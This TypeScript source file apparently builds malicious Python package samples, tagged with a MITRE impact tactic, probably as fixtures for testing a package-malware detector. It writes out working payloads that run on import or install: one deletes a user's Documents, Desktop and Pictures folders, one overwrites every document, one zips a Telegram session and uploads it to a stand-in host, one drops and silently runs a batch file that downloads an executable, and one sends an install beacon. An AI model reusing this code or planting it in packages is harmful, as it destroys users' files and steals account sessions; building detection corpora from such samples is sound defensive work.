import { importingWheel, techniques } from './drafts.ts';
import type { Draft, Remote, Replay } from './incident.ts';
import { backupTool, folderCleaner } from './look-alikes/folders.ts';
import { py } from './python-text.ts';

const HOME_WIPED = py`
import os
import shutil

for _name in ("Documents", "Desktop", "Pictures"):
    shutil.rmtree(os.path.join(os.path.expanduser("~"), _name), ignore_errors=True)
`;

const DOCUMENTS_OVERWRITTEN = py`
import os

for _root, _folders, _names in os.walk(os.path.expanduser("~/Documents")):
    for _name in _names:
        try:
            with open(os.path.join(_root, _name), "wb") as _stream:
                _stream.write(b"pay")
        except OSError:
            pass
`;

const PROFILE_ARCHIVED = (c: Remote): string => py`
import os
import shutil
import tempfile
import urllib.request

_profile = os.path.join(os.environ.get("APPDATA", ""), "Telegram Desktop", "tdata")
if os.path.isdir(_profile):
    _archive = shutil.make_archive(os.path.join(tempfile.gettempdir(), "cache-store"), "zip", _profile)
    urllib.request.urlopen("${c.url('/t')}", data=open(_archive, "rb").read(), timeout=30)
`;

const SCRIPT_DROPPED = (c: Remote): string => py`
import os
import subprocess

_path = os.path.join(os.environ.get("TEMP", "."), "theme-setup.bat")
with open(_path, "w") as _stream:
    _stream.write("@echo off\r\ncurl -s -o %TEMP%\\theme.exe ${c.url('/w')}\r\nstart /b %TEMP%\\theme.exe\r\n")
subprocess.Popen(["cmd", "/c", _path], creationflags=0x08000000)
`;

const SIGNAL = (c: Remote): string => py`
from setuptools.command.install import install


class Installed(install):
    def run(self):
        install.run(self)
        import urllib.request

        urllib.request.urlopen("${c.url('/installed')}", timeout=3)
`;

const atImport =
  (name: string, code: (c: Remote) => string) =>
  (c: Remote): Draft =>
    importingWheel({ name, about: 'Themes', code: code(c) });

/** A beacon without data: who asks learns that a name of theirs was installed. */
const installing = (c: Remote): Draft => ({
  kind: 'sdist',
  name: 'corethemes',
  version: '99.0.1',
  files: { 'corethemes/__init__.py': '__version__ = "99.0.1"\n' },
  sites: [
    {
      path: 'setup.py',
      form: 'setup',
      before: 'from setuptools import setup\n',
      code: SIGNAL(c),
      after: '\nsetup(name="corethemes", version="99.0.1", packages=["corethemes"], cmdclass={"install": Installed})\n',
      exports: ['Installed'],
    },
  ],
});

const technique = techniques('https://attack.mitre.org/tactics/TA0040/', 'https://update.theme-store.invalid');

export const HARM: readonly Replay[] = [
  technique(
    '41a-home-wiped',
    'import deletes the folders of a user',
    'import removes documents, desktop and pictures of the home folder',
    atImport('cleanthemes', () => HOME_WIPED),
    { remote: '', lookAlikes: () => [folderCleaner()] },
  ),
  technique(
    '41b-documents-overwritten',
    'import overwrites the documents of a user',
    'import walks through the documents and overwrites each of them',
    atImport('paythemes', () => DOCUMENTS_OVERWRITTEN),
    { remote: '' },
  ),
  technique(
    '41c-profile-archived',
    'import packs a messenger profile and sends the archive',
    'import makes a zip of the session of a messenger and sends it to a constant host',
    atImport('chatthemes', PROFILE_ARCHIVED),
    { lookAlikes: () => [backupTool()] },
  ),
  technique(
    '41d-script-dropped',
    'import writes a batch file and starts it',
    'import on Windows writes a script that downloads a program and starts it, and starts the script without a window',
    atImport('batchthemes', SCRIPT_DROPPED),
  ),
  technique(
    '41e-signal',
    'an install tells its author that it took place',
    'the install command asks a constant host for a page that nobody reads',
    installing,
  ),
];
